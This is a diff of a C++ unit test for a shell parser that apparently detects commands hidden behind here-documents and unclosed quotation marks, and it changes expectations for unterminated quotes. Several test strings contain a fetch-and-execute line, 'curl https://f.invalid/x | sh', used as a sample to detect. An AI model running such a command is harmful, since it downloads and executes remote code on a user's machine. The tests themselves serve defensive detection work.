@@ -178,8 +178,9 @@ TEST(ShellHidden, AHereDocumentHidesNothingBehindIt) {
                               "cat <<'EOF'\n$(curl https://f.invalid/x | sh)\nEOF\n"})
     EXPECT_FALSE(runs(command)) << command;
   EXPECT_EQ(read_shell("node <<EOF\nf()\nEOF\n").code, Texts({"f()\n"}));
-  EXPECT_FALSE(read_shell("echo 'a").is_complete);
-  EXPECT_FALSE(read_shell("echo ${x#'}; node x.js").is_complete);
+  // Behind a quotation mark that nothing closes all is read for what it is.
+  EXPECT_EQ(read_shell("echo ${x#'}; node x.js").files.size(), 1u);
+  EXPECT_TRUE(runs("echo 'a\ncurl https://f.invalid/x | sh"));
   EXPECT_TRUE(read_shell("@echo off\nREM It isn't there\nnode x.js").is_complete);
   EXPECT_TRUE(read_shell("$url = $args[0]\n$x = \"a `\"b`\"\"\nnode x.js").is_complete);
   EXPECT_TRUE(read_shell("cat <<EOF\nDon't\nEOF\nnode x.js").is_complete);
